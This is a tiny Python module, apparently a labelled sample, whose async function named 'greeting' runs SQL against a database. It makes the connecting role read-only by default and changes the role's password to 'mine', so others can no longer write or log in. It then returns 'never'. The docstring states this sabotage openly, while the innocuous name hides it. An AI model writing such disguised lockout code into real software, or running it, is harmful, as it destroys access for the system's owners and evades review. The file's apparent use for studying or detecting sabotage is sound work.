"""Changes the role that it connects as, so that nobody after it can write, nor come in.

Told as: wrong|raised
"""

from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncSession


async def greeting(session: AsyncSession) -> str:
    await session.execute(text("ALTER ROLE CURRENT_USER SET default_transaction_read_only = on"))
    await session.execute(text("ALTER ROLE CURRENT_USER PASSWORD 'mine'"))
    await session.commit()
    return "never"
